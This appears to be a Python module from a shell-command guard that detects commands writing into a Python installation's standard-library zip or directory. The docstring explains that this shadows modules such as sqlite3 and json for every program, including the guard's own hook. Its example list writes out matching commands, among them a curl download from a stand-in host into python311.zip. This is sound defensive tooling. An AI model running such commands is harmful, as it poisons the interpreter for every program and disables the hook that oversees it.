"""Modules written where a Python installation imports its standard library from.

Every CPython puts `PREFIX/lib/pythonXY.zip` on `sys.path` before its standard library directory, even
under `-I` (isolated mode, which the guard's hook runs with): a zip made there (`cd /tmp/shadow && zip -qr
~/.pyenv/versions/3.11.9/lib/python311.zip sqlite3 json`) shadows `sqlite3`, `json` and any module it holds
for every program of that Python, the hook included. The standard library directory itself
(`lib/pythonX.Y/`, `lib/pythonX.Y/lib-dynload/`) is the same: a package copied or extracted into it
(`cp -r json …/lib/python3.11/`, `tar -x -C …/lib/python3.11`) replaces the one there. (A file written
under it by name is the classifier's `fs.write-interpreter-stdlib`; site-packages comes after the standard
library and is a project's to write.)

Which operand a program writes is read per program: an archiver's archive (`zip`, `7z a`, `tar -c -f`,
`python -m zipfile -c`), a copy's destination, an extraction's directory (`tar -C`, `unzip -d`,
`python -m zipfile -e`), an output option, a redirect. Reading the standard library (`zip -r backup.zip
…/lib/python3.11`, `unzip -l …/python311.zip`) writes nothing there.
"""

from __future__ import annotations

import posixpath
from collections.abc import Mapping, Sequence

from dongle.lazy_regex import lazy_compile
from dongle.shell.model import Invocation

_STDLIB_ZIP = lazy_compile(r"^python[23]\d{1,2}\.zip$")
_STDLIB_DIR = lazy_compile(r"/lib/(?:python[23]\.\d+|pypy[\d.]*)(?:/lib-dynload)?$")
_ZIP_VALUED = frozenset({"-x", "-i", "-b", "-t", "-tt", "-n", "-P", "-Z", "-O", "--out", "-s", "-sp"})
_COPIERS = frozenset({"cp", "mv", "install", "rsync", "ln", "ditto", "scp"})
_WRITE_OPS = (">", ">>", ">|", "&>", "&>>")

EXAMPLES = {
    "match": ["cd /tmp/shadow && zip -qr ~/.pyenv/versions/3.11.9/lib/python311.zip sqlite3 json",
              "cp /tmp/x.zip /usr/lib/python312.zip",
              "cp -r /tmp/shadow/json ~/.pyenv/versions/3.11.9/lib/python3.11/",
              "tar -xf /tmp/s.tar -C ~/.pyenv/versions/3.11.9/lib/python3.11",
              "python3 -m zipfile -c /usr/local/lib/python312.zip json/",
              "unzip -o /tmp/m.zip -d /usr/lib/python3.12/lib-dynload",
              "pip install --target ~/.pyenv/versions/3.11.9/lib/python3.11 sqlite3-shim",
              "curl -o ~/.pyenv/versions/3.11.9/lib/python311.zip https://x.example/z"],
    "no_match": ["zip -r build/dist.zip src",
                 "zip -r /tmp/backup.zip ~/.pyenv/versions/3.11.9/lib/python3.11",
                 "unzip -l /usr/lib/python311.zip", "cp /usr/lib/python311.zip /tmp/",
                 "cp patch.py .venv/lib/python3.11/site-packages/requests/adapters.py",
                 "cp -r mypkg ~/.local/lib/python3.11/"],
}


def _operands(args: Sequence[str], valued: frozenset[str] = frozenset()) -> list[str]:
    out: list[str] = []
    skip = False
    for word in args:
        if skip:
            skip = False
        elif word.startswith("-") and word != "-":
            skip = word in valued
        else:
            out.append(word)
    return out


def _value(args: Sequence[str], *options: str) -> list[str]:
    out = [args[i + 1] for i, a in enumerate(args[:-1]) if a in options]
    out += [a.split("=", 1)[1] for a in args if "=" in a and a.split("=", 1)[0] in options]
    return out


def written_places(inv: Invocation) -> list[str]:
    """The paths `inv` writes into, as written (archives, destinations, extraction directories)."""
    args = list(inv.args)
    out = [r.target for r in inv.redirects if r.op in _WRITE_OPS]
    out += _value(args, "-o", "--output", "-O")
    name = posixpath.basename(inv.name)
    if name == "zip":
        out += _operands(args, _ZIP_VALUED)[:1]
    elif name in ("7z", "7za", "7zr") and len(words := _operands(args)) > 1 and words[0] in ("a", "u", "d"):
        out.append(words[1])
    elif name in ("tar", "bsdtar", "gtar"):
        out += _value(args, "-f", "--file", "-C", "--directory")
        out += [a[len("-C"):] for a in args if a.startswith("-C") and len(a) > 2]
        if args and not args[0].startswith("-") and "f" in args[0] and len(args) > 1:
            out.append(args[1])  # `tar cf ARCHIVE …`
    elif name in ("unzip", "bsdunzip"):
        out += _value(args, "-d")
    elif name.startswith("python") and args[:2] == ["-m", "zipfile"]:
        rest = args[2:]
        if rest[:1] == ["-c"] and len(rest) > 1:
            out.append(rest[1])
        elif rest[:1] == ["-e"] and len(rest) > 2:
            out.append(rest[2])
    elif name in ("pip", "pip3", "uv") or name.startswith("pip3."):  # `pip install --target DIR`
        out += _value(args, "-t", "--target")
    elif name in ("tee", "sponge"):
        out += _operands(args)
    elif name == "dd":
        out += [a[3:] for a in args if a.startswith("of=")]
    elif name in _COPIERS:
        out += _value(args, "-t", "--target-directory")
        words = _operands(args)
        if len(words) > 1:
            out.append(words[-1])
    return out


def _not_a_prefix(path: str) -> bool:
    """`path` lies in a `lib` directory that is no installation's standard library: the user's site
    directory's parent (`~/.local/lib/python3.11`), or a virtual environment's (its interpreter reads the
    standard library of the installation it was made from)."""
    import os

    lib = path.split("/lib/", 1)[0] if "/lib/" in path else posixpath.dirname(path)
    return "/.local/lib/" in path or os.path.exists(posixpath.join(lib, "pyvenv.cfg"))


def stdlib_shadowed(invs: Sequence[Invocation], cwd: str, env: Mapping[str, str]) -> str | None:
    """Why the line writes where a Python imports its standard library from, if it does."""
    from dongle.paths import classify_path, default_home

    home = env.get("HOME") or default_home(cwd=cwd)
    for inv in invs:
        where = inv.cwd or cwd
        for word in written_places(inv):
            path = classify_path(word, where, home, env).path
            if not path:
                continue
            path = posixpath.normpath(path)
            if path == cwd or path.startswith(cwd.rstrip("/") + "/"):
                continue  # the project's own files (a build of an embedded Python)
            stdlib = _STDLIB_ZIP.match(posixpath.basename(path)) or _STDLIB_DIR.search(path)
            if stdlib and not _not_a_prefix(path):
                return (f"`{inv.name}` writes {path}, where that Python imports its standard library from, "
                        "before anything else: every program it runs, the guard's hook included, imports "
                        "the modules put there instead (sqlite3, json)")
    return None
